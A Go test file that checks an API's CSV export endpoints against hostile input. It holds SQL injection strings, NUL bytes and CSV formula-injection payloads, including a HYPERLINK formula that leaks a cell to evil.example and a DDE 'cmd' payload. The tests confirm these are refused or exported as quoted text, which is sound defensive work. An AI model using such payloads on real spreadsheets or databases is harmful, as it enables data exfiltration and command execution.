package graph_test

// Hostile requests to the CSV exports (issue 18, holes 1 to 3), sent as an
// anonymous caller and as a region editor through the whole HTTP edge:
// every bad parameter gets a coded error (never a dropped connection or a
// 500), nothing in the database changes, a page never exceeds the caller's
// cap, an expensive breakdown is refused with GraphQL's code, and text an
// editor stored comes out of an export as text, never as a formula.

import (
	"context"
	"encoding/base64"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/hin-graph/hin-graph/internal/hin"
	"github.com/hin-graph/hin-graph/internal/httpapi"
	"github.com/hin-graph/hin-graph/internal/store"
	"github.com/hin-graph/hin-graph/internal/testdb"
)

// exportEdge is the whole HTTP edge, with the shipped limits but no rate
// limit, over the reference data.
func exportEdge(t *testing.T) *writeServer {
	t.Helper()
	db := testdb.NewDB(t, testdb.Reference)
	cfg := httpapi.DefaultConfig()
	cfg.MetricsAddr = ""
	cfg.Tokens.HMACSecret = []byte("a-test-secret-that-is-long-enough-for-hs256")
	cfg.Rate.PerSecond, cfg.AnonymousRate.PerSecond = 0, 0
	s := store.NewFromDB(db)
	srv, err := httpapi.New(context.Background(), cfg, s, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	return &writeServer{s: s, db: db, h: srv.Handler()}
}

type hostileExport struct {
	name, path string
	codes      []string // the refusal's code; none: a CSV answer is fine
	editorOnly bool     // refused for anonymous callers only (a token holder's larger page)
}

func hostileExports() []hostileExport {
	regionID := url.QueryEscape(emRegionID)
	otherOrder := base64.RawURLEncoding.EncodeToString([]byte(`{"o":"NAME","k":"x","i":"` + hin.StableUUID("test", "x") + `"}`))
	notUUID := base64.RawURLEncoding.EncodeToString([]byte(`{"o":"PERIOD_START","k":"2024-01-01","i":"'; DROP TABLE outcome; --"}`))
	badKey := base64.RawURLEncoding.EncodeToString([]byte(`{"o":"PERIOD_START","k":"not a date","i":"` + hin.StableUUID("test", "x") + `"}`))
	inv, cost := []string{hin.EINVALID}, []string{hin.ECOSTLIMIT}
	period := hin.GlobalID(hin.KindCollectionPeriod, hin.StableUUID("test", "period"))
	bd := "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&financialYear=FY2024-25"
	cs := []hostileExport{
		// the probes: each dropped the connection
		{name: "from after to", path: "/outcomes.csv?from=2024-05-01&to=2024-04-01", codes: inv},
		{name: "programmeIds not an id", path: "/outcomes.csv?programmeIds=not-an-id", codes: inv},
		{name: "pilotIds a Region id", path: "/outcomes.csv?pilotIds=" + regionID, codes: inv},
		{name: "innovationIds NUL", path: "/outcomes.csv?innovationIds=%00", codes: inv},
		{name: "metricIds ignored, statuses unknown", path: "/outcomes.csv?statuses=LOST", codes: inv},
		{name: "from not a date", path: "/outcomes.csv?from=2024-13-01", codes: inv},
		{name: "to a number", path: "/outcomes.csv?to=20240401", codes: inv},
		// pages
		{name: "first 0", path: "/outcomes.csv?first=0", codes: inv},
		{name: "first negative", path: "/outcomes.csv?first=-5", codes: inv},
		{name: "first huge", path: "/outcomes.csv?first=99999999999999999999", codes: inv},
		{name: "first a float", path: "/outcomes.csv?first=1.5", codes: inv},
		{name: "first over GraphQL's page", path: "/outcomes.csv?first=501", codes: inv, editorOnly: true},
		{name: "first over the export's page", path: "/outcomes.csv?first=" + strconv.Itoa(hin.MaxExportPageSize+1), codes: inv},
		{name: "after garbage", path: "/outcomes.csv?after=%27%20OR%201%3D1", codes: inv},
		{name: "after of another order", path: "/outcomes.csv?after=" + otherOrder, codes: inv},
		{name: "after with SQL for an id", path: "/outcomes.csv?after=" + notUUID, codes: inv},
		{name: "after with a key not a date", path: "/outcomes.csv?after=" + badKey, codes: inv},
		// odd text that is only a filter: an ordinary (empty) answer
		{name: "regionCodes SQL", path: "/outcomes.csv?regionCodes=" + url.QueryEscape("'; DROP TABLE outcome; --")},
		{name: "metricCodes long", path: "/outcomes.csv?metricCodes=" + strings.Repeat("a", 1<<14)},
		// a NUL reached PostgreSQL, which refuses it in text: a 500
		{name: "regionCodes NUL", path: "/outcomes.csv?regionCodes=%00", codes: inv},
		{name: "metricCodes NUL", path: "/outcomes.csv?metricCodes=HI%00", codes: inv},
		// breakdowns
		{name: "breakdown 4 dimensions over 50 years", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=INNOVATION,PROGRAMME,REGION,MONTH&from=1975-01-01&to=2024-12-31", codes: cost},
		{name: "breakdown monthly over 175 years", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=INNOVATION,MONTH&from=1950-04-01&to=2125-03-31", codes: inv},
		{name: "breakdown from after to", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&from=2024-05-01&to=2024-04-01", codes: inv},
		{name: "breakdown two periods", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=MONTH,QUARTER&financialYear=FY2024-25", codes: inv},
		{name: "breakdown unknown dimension", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=%00&financialYear=FY2024-25", codes: inv},
		{name: "breakdown quarter 9", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&quarter=FY2024-25%20Q9", codes: inv},
		{name: "breakdown year 99999", path: "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&financialYear=FY99999-00", codes: inv},
		{name: "breakdown programmeIds not an id", path: bd + "&programmeIds=not-an-id", codes: inv},
		{name: "breakdown innovationIds a Region id", path: bd + "&innovationIds=" + regionID, codes: inv},
		{name: "breakdown asOf now", path: bd + "&asOf=now", codes: inv},
		{name: "breakdown asOf month 13", path: bd + "&asOf=2024-13-01T00:00:00Z", codes: inv},
		{name: "breakdown includeDrafts maybe", path: bd + "&includeDrafts=maybe", codes: inv},
		{name: "breakdown unknown metric", path: "/figures/breakdown.csv?metrics=%27%3B--&groupBy=REGION&financialYear=FY2024-25", codes: inv},
		// the collections export
		{name: "non-submitters without a period", path: "/collections/non-submitters.csv", codes: inv},
		{name: "non-submitters period a Region id", path: "/collections/non-submitters.csv?period=" + regionID, codes: inv},
		{name: "non-submitters period NUL", path: "/collections/non-submitters.csv?period=%00", codes: inv},
		{name: "proforma region NUL", path: "/collections/proforma.xlsx?region=%00&period=" + period, codes: inv},
		{name: "proforma region not UTF-8", path: "/collections/proforma.xlsx?region=%ff%fe&period=" + period, codes: inv},
	}
	return cs
}

// formulaCell is a cell a spreadsheet would run: it starts like a formula
// and is not a number the server wrote.
func formulaCell(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil
}

func TestHostileExports(t *testing.T) {
	t.Parallel()
	for _, role := range []struct {
		name string
		who  hin.Principal
	}{{"editor", editorEM}, {"anonymous", anonymous}} {
		t.Run(role.name, func(t *testing.T) {
			t.Parallel()
			ws := exportEdge(t)
			for _, c := range hostileExports() {
				t.Run(c.name, func(t *testing.T) {
					before := fingerprint(t, ws.db)
					res := sendAs(ws.h, role.who, httptest.NewRequest(http.MethodGet, c.path, nil))
					if diff := tablesChanged(before, fingerprint(t, ws.db)); len(diff) > 0 {
						t.Errorf("the database changed: %v", diff)
					}
					refuse := len(c.codes) > 0 && (!c.editorOnly || role.who.Role == hin.RoleAnonymous)
					if !refuse {
						if res.status != http.StatusOK {
							t.Fatalf("status %d: %.300s", res.status, res.body)
						}
						checkExportCells(t, string(res.body))
						return
					}
					checkClean(t, res, []byte(c.path))
					if res.status != http.StatusBadRequest || len(res.errors) != 1 {
						t.Fatalf("status %d, want 400 with one error: %.300s", res.status, res.body)
					}
					if code, _ := res.errors[0].Extensions["code"].(string); !strings.Contains(strings.Join(c.codes, " "), code) {
						t.Errorf("code %s, want one of %v: %s", code, c.codes, res.errors[0].Message)
					}
				})
			}
		})
	}
}

// checkExportCells reads a CSV answer and fails on any cell that would run.
func checkExportCells(t *testing.T, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("not CSV (%v): %.300s", err, body)
	}
	for i, r := range recs {
		for _, cell := range r {
			if formulaCell(cell) {
				t.Errorf("line %d: %q would run as a formula", i+1, cell)
			}
		}
	}
	return recs
}

const recordPublished = `mutation($v: Float, $src: String, $ps: Date!, $pe: Date!) { recordOutcome(input: {metricCode: "patients_benefiting",
	regionCode: "HI-EM", periodStart: $ps, periodEnd: $pe, value: $v, source: $src, status: PUBLISHED}) { id } }`

// An editor's source (the probe and each character that starts a
// formula) comes out of /outcomes.csv as text, for the editor and for
// anyone; a source the API refuses (control characters) is refused.
func TestHostileExportFormulaSources(t *testing.T) {
	t.Parallel()
	ws := exportEdge(t)
	sources := []string{`=HYPERLINK("http://evil.example/?leak="&A1,"Open report")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
		"\t=1+1", "\r=1+1", "'=already quoted", "=" + strings.Repeat("A", 500)}
	stored := map[string]bool{}
	for i, src := range sources {
		start := "2023-" + []string{"01", "02", "03", "04", "05", "06", "07", "08"}[i] + "-01"
		end := start[:8] + "28"
		res := sendAs(ws.h, editorEM, postJSON(gqlBody(recordPublished, map[string]any{"v": 1 + i, "src": src, "ps": start, "pe": end})))
		checkClean(t, res, []byte(src))
		if len(res.errors) == 0 {
			stored[src] = true
		}
	}
	if !stored[sources[0]] || !stored["-2+3"] || !stored["@SUM(1+1)"] {
		t.Fatalf("the plain formula sources were not stored: %v", stored)
	}
	for _, who := range []hin.Principal{editorEM, anonymous} {
		res := sendAs(ws.h, who, httptest.NewRequest(http.MethodGet, "/outcomes.csv?regionCodes=HI-EM&from=2023-01-01&to=2023-08-31&statuses=PUBLISHED", nil))
		if res.status != http.StatusOK {
			t.Fatalf("export: %d %.300s", res.status, res.body)
		}
		recs := checkExportCells(t, string(res.body))
		col := map[string]int{}
		for i, h := range recs[0] {
			col[h] = i
		}
		got := map[string]bool{}
		for _, r := range recs[1:] {
			got[r[col["source"]]] = true
			if v := r[col["value"]]; !regexp.MustCompile(`^\d+$`).MatchString(v) {
				t.Errorf("value %q: a number is written as a number, never quoted", v)
			}
		}
		for src := range stored {
			want := strings.ReplaceAll("'"+src, "\r", "") // encoding/csv drops a lone CR on CRLF lines
			if !got[want] {
				t.Errorf("source %q: want %q among %v", src, want, got)
			}
		}
	}
}
